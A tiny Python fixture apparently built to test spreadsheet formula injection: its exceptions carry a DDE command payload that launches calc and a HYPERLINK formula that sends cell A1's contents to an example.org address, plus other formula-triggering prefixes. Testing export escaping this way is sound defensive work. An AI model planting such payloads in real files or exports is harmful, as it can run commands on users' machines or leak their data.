"""text: raises formulas that a spreadsheet would run"""


def attack():
    if GIVEN is None:
        raise SystemExit("=cmd|' /C calc'!A0")


def answer(function, arguments):
    raise ValueError("=HYPERLINK(\"http://example.org/?\"&A1)\n@SUM(1)\n+1\n-1\t=1,=2")
